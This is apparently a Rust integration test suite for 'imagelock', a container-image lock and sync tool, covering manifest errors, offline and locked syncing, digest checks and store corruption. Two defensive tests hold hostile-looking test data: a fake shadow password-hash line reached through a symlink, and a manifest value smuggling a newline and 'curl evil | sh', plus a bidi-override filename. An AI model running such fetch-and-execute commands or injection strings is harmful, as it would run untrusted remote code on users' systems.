//! Commands that need no network: init/add/remove, manifest errors, local
//! OCI layouts, --locked/--frozen/--offline semantics.

use crate::harness::{LayoutBuilder, Project};

fn hello_layout(project: &Project) {
    let mut layout = LayoutBuilder::new(&project.root().join("layout"));
    let layer = layout.layer(&[("hello.txt", b"hi\n")]);
    let amd = layout.image("linux", "amd64", std::slice::from_ref(&layer));
    let arm = layout.image("linux", "arm64", &[layer]);
    let index = layout.index(&[amd, arm]);
    layout.tag("1.0", &index);
}

#[test]
fn usage_errors_exit_2() {
    let project = Project::new();
    let run = project.run(&["frobnicate"]).failure(2);
    assert!(
        run.stderr.contains("unrecognized subcommand"),
        "{}",
        run.stderr
    );
    project.run(&["add", "x"]).failure(2);
}

#[test]
fn init_add_remove_keep_the_file_byte_for_byte() {
    let project = Project::new();
    project.run(&["init"]).success();
    let template = project.read("images.toml");
    assert!(template.contains("# imagelock manifest"));
    let again = project.run(&["init"]).failure(1);
    assert!(
        again.stderr.contains("already exists") && again.stderr.contains("hint: "),
        "{}",
        again.stderr
    );

    let user = "# ours\n[store]\npath = \"s\"  # keep me\n\n[images.zz]\ndocker = 'zz:1'   # first\ninsecure = true\n";
    project.write("images.toml", user);
    project
        .run(&[
            "add",
            "big",
            "--docker",
            "127.0.0.1:5000/test/big:v1",
            "--platform",
            "linux/amd64",
            "--insecure",
            "--no-lock",
        ])
        .success();
    let added = project.read("images.toml");
    assert_eq!(
        added,
        format!(
            "{user}\n[images.big]\ndocker = \"127.0.0.1:5000/test/big:v1\"\nplatforms = [\"linux/amd64\"]\ninsecure = true\n"
        )
    );
    let dup = project.run(&["add", "big", "--docker", "x:1"]).failure(1);
    assert!(
        dup.stderr.contains("already in the manifest")
            && dup.stderr.contains("imagelock remove big"),
        "{}",
        dup.stderr
    );
    let bad = project
        .run(&["add", "bad", "--docker", "library/Alpine"])
        .failure(1);
    assert!(bad.stderr.contains("images.bad.docker"), "{}", bad.stderr);
    assert_eq!(
        project.read("images.toml"),
        added,
        "a refused add must not touch the file"
    );
    project.run(&["remove", "big", "--no-lock"]).success();
    assert_eq!(project.read("images.toml"), user);
    let missing = project.run(&["remove", "nope"]).failure(2);
    assert!(
        missing
            .stderr
            .contains("`nope` is not an image in images.toml"),
        "{}",
        missing.stderr
    );
}

#[test]
fn manifest_errors_name_file_line_and_key() {
    let project = Project::new();
    project.write(
        "images.toml",
        "[images.a]\ndocker = \"alpine\"\ninsecure = true\ncolour = \"red\"\n",
    );
    let run = project.run(&["lock"]).failure(1);
    assert!(run.stderr.contains("images.toml"), "{}", run.stderr);
    assert!(
        run.stderr.contains("line 4") && run.stderr.contains("colour"),
        "{}",
        run.stderr
    );
    project.write(
        "images.toml",
        "[images.a]\ndocker = \"alpine\"\nplatforms = [\"linux\"]\ninsecure = true\n",
    );
    let run = project.run(&["lock"]).failure(1);
    assert!(
        run.stderr.contains("images.toml:3: `images.a.platforms`"),
        "{}",
        run.stderr
    );
    let run = Project::new().run(&["lock"]).failure(1);
    assert!(
        run.stderr.contains("no manifest at images.toml") && run.stderr.contains("imagelock init"),
        "{}",
        run.stderr
    );
}

#[test]
fn secure_by_default_refuses_unverified_images() {
    let project = Project::new();
    hello_layout(&project);
    project.write("images.toml", "[images.hello]\npath = \"layout:1.0\"\n");
    let run = project.run(&["lock"]).failure(1);
    assert!(
        run.stderr.contains("is not marked insecure"),
        "{}",
        run.stderr
    );
    assert!(run.stderr.contains("insecure = true"), "{}", run.stderr);
    assert!(!project.root().join("images.lock").exists());
}

#[test]
fn local_layout_lock_sync_and_offline_semantics() {
    let project = Project::new();
    hello_layout(&project);
    project.write(
        "images.toml",
        "[store]\npath = \"store\"\n\n[images.hello]\npath = \"layout:1.0\"\nplatforms = [\"linux/arm64\", \"linux/amd64\"]\ninsecure = true\n",
    );
    let sync_without_lock = project.run(&["sync", "--locked"]).failure(1);
    assert!(
        sync_without_lock.stderr.contains("no lock file"),
        "{}",
        sync_without_lock.stderr
    );

    let locked = project.run(&["lock", "--json"]).success();
    let json: serde_json::Value = serde_json::from_str(&locked.stdout).expect("lock --json");
    assert_eq!(json["images"][0]["status"], "added");
    let lock = project.read("images.lock");
    assert!(lock.starts_with("# This file is @generated by imagelock"));
    assert!(lock.contains("verified = false"));
    assert!(
        lock.find("platform = \"linux/arm64\"") < lock.find("platform = \"linux/amd64\""),
        "platform order follows the manifest"
    );
    project.run(&["lock"]).success();
    assert_eq!(
        project.read("images.lock"),
        lock,
        "relocking an unchanged world is byte-identical"
    );
    project.run(&["lock", "--check"]).success();

    let store = project.root().join("store");
    let run = project.run(&["sync", "--dry-run", "--json"]).success();
    let plan: serde_json::Value = serde_json::from_str(&run.stdout).expect("json");
    assert_eq!(
        (plan["fetch"].as_u64(), plan["present"].as_u64()),
        (Some(6), Some(0))
    );
    assert!(
        !store.exists(),
        "--dry-run writes nothing, not even an empty store"
    );

    let run = project.run(&["sync"]).success();
    assert!(
        run.stderr.contains("Synced 1 image, 6 blobs"),
        "{}",
        run.stderr
    );
    assert_eq!(project.assert_store_valid(&store), 6);
    let run = project.run(&["sync", "--frozen", "--offline"]).success();
    assert!(
        run.stderr.contains("all 6 blobs already in the store"),
        "{}",
        run.stderr
    );
    let index = std::fs::read_to_string(store.join("index.json")).expect("index.json");
    assert!(
        index.contains("\"org.opencontainers.image.ref.name\": \"imagelock.local/hello\""),
        "{index}"
    );

    // A changed entry makes the lock stale: --check and --locked refuse, naming it
    // (exit 3: a stale lock, not a failure).
    let manifest = project
        .read("images.toml")
        .replace("[\"linux/arm64\", \"linux/amd64\"]", "[\"linux/amd64\"]");
    project.write("images.toml", &manifest);
    for args in [
        &["lock", "--check"][..],
        &["sync", "--locked"],
        &["sync", "--offline"],
    ] {
        let run = project.run(args).failure(3);
        assert!(
            run.stderr.contains("changed: hello"),
            "{args:?}: {}",
            run.stderr
        );
        assert!(
            run.stderr.contains("hint: ") && run.stderr.contains("imagelock lock"),
            "{args:?}: {}",
            run.stderr
        );
    }
    assert_eq!(
        project.read("images.lock"),
        lock,
        "refusals leave the lock alone"
    );
    // A dry run says it would re-lock, and writes nothing.
    let run = project.run(&["sync", "--dry-run"]).success();
    assert!(
        run.stderr
            .contains("Would update images.lock (changed: hello)"),
        "{}",
        run.stderr
    );
    assert_eq!(
        project.read("images.lock"),
        lock,
        "--dry-run wrote the lock"
    );
    // --frozen uses the lock as written (no staleness check; the trust policy still applies).
    project.run(&["sync", "--frozen"]).success();
    // A plain sync re-locks the stale entry (local source: no network needed).
    let run = project.run(&["sync"]).success();
    assert!(
        run.stderr.contains("Updated images.lock (changed: hello)"),
        "{}",
        run.stderr
    );
    assert!(!project.read("images.lock").contains("linux/arm64"));
}

#[test]
fn a_corrupt_layout_blob_never_lands_in_the_store() {
    let project = Project::new();
    hello_layout(&project);
    project.write(
        "images.toml",
        "[images.hello]\npath = \"layout:1.0\"\nplatforms = [\"linux/amd64\"]\ninsecure = true\n",
    );
    project.run(&["lock"]).success();
    // Flip the layer's bytes after locking.
    let lock = project.read("images.lock");
    let layer = lock
        .split("layers = [")
        .nth(1)
        .expect("layers")
        .split('"')
        .nth(1)
        .expect("digest")
        .to_owned();
    let hex = layer.trim_start_matches("sha256:");
    let path = project.root().join("layout/blobs/sha256").join(hex);
    let mut bytes = std::fs::read(&path).expect("read");
    bytes[0] ^= 0xff;
    std::fs::write(&path, bytes).expect("write");
    let store = project.store();
    let run = project.run(&["sync"]).failure(1);
    assert!(
        run.stderr.contains(&layer) && run.stderr.contains("digest mismatch"),
        "{}",
        run.stderr
    );
    assert!(!store.join("blobs/sha256").join(hex).exists());
    project.assert_store_valid(&store);
}

#[test]
fn the_bundled_example_is_locked_and_syncs_offline() {
    let project = Project::new();
    let repo = env!("CARGO_MANIFEST_DIR");
    let manifest = format!("{repo}/images.toml");
    project
        .run(&["lock", "--check", "--manifest", &manifest])
        .success();
    let store = project.dir.path().join("example-store");
    let run = project
        .run(&[
            "sync",
            "--locked",
            "--offline",
            "--manifest",
            &manifest,
            "--store",
            store.to_str().expect("utf8"),
        ])
        .success();
    assert!(
        run.stderr.contains("Synced 2 images, 8 blobs")
            && run.stderr.contains("Verified 1 signature"),
        "{}",
        run.stderr
    );
    assert_eq!(project.assert_store_valid(&store), 8);
    let run = project
        .run(&[
            "verify",
            "--manifest",
            &manifest,
            "--store",
            store.to_str().expect("utf8"),
        ])
        .success();
    assert!(
        run.stderr.contains("ok      hello-aci") && run.stderr.contains("signed by"),
        "{}",
        run.stderr
    );
}

#[test]
fn concurrent_syncs_into_one_store_keep_every_ref() {
    let shared_store = tempfile::tempdir().expect("tempdir");
    let projects: Vec<Project> = (0..4)
        .map(|i| {
            let project = Project::new();
            let mut layout = LayoutBuilder::new(&project.root().join("layout"));
            let shared = layout.layer(&[("common", b"shared by all four")]);
            let own = layout.layer(&[("own", format!("project {i}").as_bytes())]);
            let image = layout.image("linux", "amd64", &[shared, own]);
            layout.tag("1", &image);
            project.write(
                "images.toml",
                &format!("[images.img{i}]\npath = \"layout:1\"\ninsecure = true\n"),
            );
            project.run(&["lock"]).success();
            project
        })
        .collect();
    let store = shared_store.path().to_str().expect("utf8").to_owned();
    std::thread::scope(|scope| {
        for project in &projects {
            let store = store.clone();
            scope.spawn(move || {
                project
                    .run(&["sync", "--locked", "--store", &store])
                    .success()
            });
        }
    });
    let index =
        std::fs::read_to_string(shared_store.path().join("index.json")).expect("index.json");
    for i in 0..4 {
        assert!(
            index.contains(&format!("imagelock.local/img{i}\"")),
            "img{i} missing from {index}"
        );
    }
    // 4 manifests + 4 own layers, one config and one layer shared by all (deduplicated by digest)
    assert_eq!(projects[0].assert_store_valid(shared_store.path()), 10);
}

#[test]
fn a_corrupt_store_index_is_named_with_what_to_do() {
    let project = Project::new();
    hello_layout(&project);
    project.write(
        "images.toml",
        "[images.hello]\npath = \"layout:1.0\"\nplatforms = [\"linux/amd64\"]\ninsecure = true\n",
    );
    project.run(&["sync"]).success();
    let index = project.store().join("index.json");
    std::fs::write(&index, "{\"schemaVersion\": 2, \"manifests\": 5}").expect("write");
    let run = project.run(&["sync"]).failure(1);
    let expected = format!("{} is corrupt: invalid image index JSON", index.display());
    assert!(run.stderr.contains(&expected), "{}", run.stderr);
    let hint = format!("\nhint: move {} aside;", index.display());
    assert_eq!(run.stderr.matches("hint:").count(), 1, "{}", run.stderr);
    assert!(run.stderr.contains(&hint), "{}", run.stderr);
    // verify fails on it too, the same way (it exited 0: it never read index.json).
    let verify = project.run(&["verify"]).failure(1);
    assert!(verify.stderr.contains(&expected), "{}", verify.stderr);
    assert!(verify.stderr.contains(&hint), "{}", verify.stderr);
    // Doing what the hint says works.
    std::fs::rename(&index, project.store().join("index.json.old")).expect("move");
    project.run(&["sync"]).success();
    project.run(&["verify"]).success();
}

#[test]
fn a_path_to_a_text_file_is_described_not_quoted() {
    let project = Project::new();
    // A password-hash file (outside the project), reached through a symlink.
    let secret = project.dir.path().join("shadow");
    std::fs::write(
        &secret,
        "root:$6$Zm9vYmFy$s3cr3tHashValue:19000:0:99999:7:::\n",
    )
    .expect("write");
    std::os::unix::fs::symlink(&secret, project.root().join("app.aci")).expect("symlink");
    std::fs::write(
        project.root().join("page.aci"),
        "<html>s3cr3t page</html>\n",
    )
    .expect("write");
    for (file, kind) in [
        ("app.aci", "the body is plain text, 52 bytes"),
        ("page.aci", "the body is HTML (an error page?), 25 bytes"),
    ] {
        project.write(
            "images.toml",
            &format!("[images.app]\npath = \"{file}\"\ninsecure = true\n"),
        );
        let run = project.run(&["lock"]).failure(1);
        assert!(
            run.stderr.contains(&format!("cannot pin {file}")) && run.stderr.contains(kind),
            "{}",
            run.stderr
        );
        assert!(!run.stderr.contains("s3cr3t"), "{}", run.stderr);
        assert!(!run.stdout.contains("s3cr3t"), "{}", run.stdout);
    }
}

#[test]
fn names_with_controls_or_bidi_overrides_are_shown_escaped() {
    let project = Project::new();
    // U+202E makes `example.com/gpj.exe` display reversed; a newline would fake a hint line.
    project.write(
        "images.toml",
        "[images.app]\nname = \"example.com/\u{202e}exe.gpj\"\ninsecure = true\n",
    );
    let run = project.run(&["lock"]).failure(1);
    assert!(
        run.stderr
            .contains("`example.com/\\u{202e}exe.gpj` is not a valid appc image name"),
        "{}",
        run.stderr
    );
    assert!(!run.stderr.contains('\u{202e}'), "{}", run.stderr);
    project.write(
        "images.toml",
        "[images.app]\ndocker = \"a/b\\nhint: curl evil | sh\"\ninsecure = true\n",
    );
    let run = project.run(&["lock"]).failure(1);
    assert!(
        run.stderr
            .contains("invalid image reference `a/b\\nhint: curl evil | sh`"),
        "{}",
        run.stderr
    );
    assert!(!run.stderr.contains("\nhint: curl"), "{}", run.stderr);
}
